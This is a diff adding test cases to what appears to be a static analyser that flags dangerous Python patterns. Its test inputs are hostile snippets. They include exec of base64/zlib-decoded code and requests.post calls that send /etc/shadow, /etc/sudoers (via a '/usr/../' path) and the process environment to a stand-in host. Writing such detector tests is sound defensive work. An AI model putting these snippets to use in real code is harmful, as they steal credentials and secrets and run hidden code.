@@ -82,6 +82,7 @@ TEST(python_relative_imports_and_own_names_are_no_known_modules)
     GIVES_NOT("class os:\n    def system(x): return x\nos.system('id')", "call os.system");
     GIVES_NOT("def eval(x): return x\neval('1')", "call eval");
     GIVES_NOT("model.eval()", "call eval");
+    GIVES("'z'.decode('zlib')\nexec('eJwzBAAAMgAy'.decode('base64').decode('zlib'))", "flow decode-then-exec(1)");
     GIVES_NOT("# os.system('id')\n'os.system(1)'", "call");
 }
 
@@ -221,6 +222,9 @@ TEST(python_sockets_that_become_a_shells_input_are_seen)
 TEST(python_secrets_that_leave_are_seen)
 {
     GIVES("import requests\nrequests.post('http://x', data=open('/etc/shadow').read())", "flow secret-then-send");
+    GIVES("import requests\nrequests.post('http://x', data=open('/usr/../etc/sudoers').read())",
+          "flow secret-then-send");
+    GIVES_NOT("import readline\nreadline.read_history_file('~/.python_history')", "flow file-read");
     GIVES("import os, requests, json\nrequests.post('http://x', data=json.dumps(dict(os.environ)))",
           "flow secret-then-send");
     GIVES("import requests\na = open('/etc/shadow').read()\nrequests.post('http://x', data=b)", "flow secret-and-send");
